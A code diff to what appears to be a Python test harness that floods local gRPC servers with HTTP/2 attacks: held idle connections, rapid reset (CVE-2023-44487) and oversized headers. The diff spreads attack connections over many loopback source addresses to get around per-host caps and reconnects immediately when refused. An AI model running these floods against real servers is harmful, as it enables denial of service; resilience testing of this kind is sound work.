@@ -11,6 +11,8 @@ holds them for `seconds`, then closes everything:
 `hold_idle` opens connections that start no call at all: half send nothing, half only the HTTP/2 preface.
 `rapid_reset` opens calls and resets them at once (CVE-2023-44487), as fast as the server reads them.
 `oversized_headers` sends calls whose header block (10,000 small headers) is past gRPC's metadata limit.
+These three connect from ATTACKER (127.0.0.2, loopback as well): a host of its own, so that the servers' cap
+on connections per host meets the attacker and not the legitimate callers on 127.0.0.1 beside it.
 """
 
 from __future__ import annotations
@@ -25,6 +27,7 @@ PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8, 0x9
 END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
 FRAME = 16384  # the default SETTINGS_MAX_FRAME_SIZE
+ATTACKER = "127.0.0.2"  # every 127.x.y.z is loopback on Linux
 
 
 def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
@@ -184,9 +187,9 @@ class IdleTally:
     last_closed_after: float = 0.0  # seconds from the start to the last of those
 
 
-async def _idle_connection(host: str, port: int, preface: bool, tally: IdleTally, start: float) -> None:
+async def _idle_connection(host: str, port: int, source: str, preface: bool, tally: IdleTally, start: float) -> None:
     try:
-        reader, writer = await asyncio.open_connection(host, port)
+        reader, writer = await asyncio.open_connection(host, port, local_addr=(source, 0))
     except OSError:
         tally.refused += 1
         return
@@ -206,12 +209,15 @@ async def _idle_connection(host: str, port: int, preface: bool, tally: IdleTally
         writer.close()
 
 
-async def hold_idle(address: str, n: int, seconds: float, tally: IdleTally | None = None) -> IdleTally:
+async def hold_idle(address: str, n: int, seconds: float, tally: IdleTally | None = None, hosts: int = 1) -> IdleTally:
     """Open `n` connections that start no call (every other one sends the HTTP/2 preface and SETTINGS,
-    the rest nothing) and hold them for `seconds`, or until the server has closed them all."""
+    the rest nothing) and hold them for `seconds`, or until the server has closed them all. With `hosts`
+    > 1 they come from that many loopback hosts (127.0.0.2, 127.0.0.3, ...), round robin."""
     host, port = address.rsplit(":", 1)
     tally, start = tally or IdleTally(), time.monotonic()
-    tasks = [asyncio.ensure_future(_idle_connection(host, int(port), i % 2 == 1, tally, start)) for i in range(n)]
+    sources = [ATTACKER] if hosts == 1 else [f"127.0.{2 + i // 250}.{2 + i % 250}" for i in range(hosts)]
+    tasks = [asyncio.ensure_future(_idle_connection(host, int(port), sources[i % hosts], i % 2 == 1, tally, start))
+             for i in range(n)]
     _, pending = await asyncio.wait(tasks, timeout=seconds)
     for task in pending:
         task.cancel()
@@ -252,28 +258,34 @@ async def oversized_headers(address: str, path: str, connections: int, seconds: 
 
 async def _send_calls(address: str, connections: int, seconds: float, calls) -> int:
     """On each of `connections` connections (its replies read and dropped), `calls(first_stream)` -> (bytes,
-    n calls) written back to back for `seconds`; returns the calls sent over all connections."""
+    n calls) written back to back for `seconds`, a connection the server refuses or closes opened again at
+    once (as a flood would); returns the calls sent over all connections."""
     host, port = address.rsplit(":", 1)
     end = asyncio.get_running_loop().time() + seconds
     sent = 0
 
     async def one() -> None:
         nonlocal sent
-        reader, writer = await asyncio.open_connection(host, int(port))
-        replies = asyncio.ensure_future(_drain(reader))
-        writer.write(PREFACE + frame(SETTINGS, 0, 0))
-        stream = 1
-        try:
-            while asyncio.get_running_loop().time() < end and stream < 2**30:
-                data, n = calls(stream)
-                writer.write(data)
-                await writer.drain()
-                sent, stream = sent + n, stream + 2 * n
-        except (ConnectionError, OSError):
-            pass
-        finally:
-            replies.cancel()
-            writer.close()
+        while asyncio.get_running_loop().time() < end:  # a connection refused or closed is opened again
+            try:
+                reader, writer = await asyncio.open_connection(host, int(port), local_addr=(ATTACKER, 0))
+            except OSError:
+                await asyncio.sleep(0.01)
+                continue
+            replies = asyncio.ensure_future(_drain(reader))
+            writer.write(PREFACE + frame(SETTINGS, 0, 0))
+            stream = 1
+            try:
+                while asyncio.get_running_loop().time() < end and stream < 2**30:
+                    data, n = calls(stream)
+                    writer.write(data)
+                    await writer.drain()
+                    sent, stream = sent + n, stream + 2 * n
+            except (ConnectionError, OSError):
+                pass
+            finally:
+                replies.cancel()
+                writer.close()
 
     await asyncio.gather(*(one() for _ in range(connections)), return_exceptions=True)
     return sent
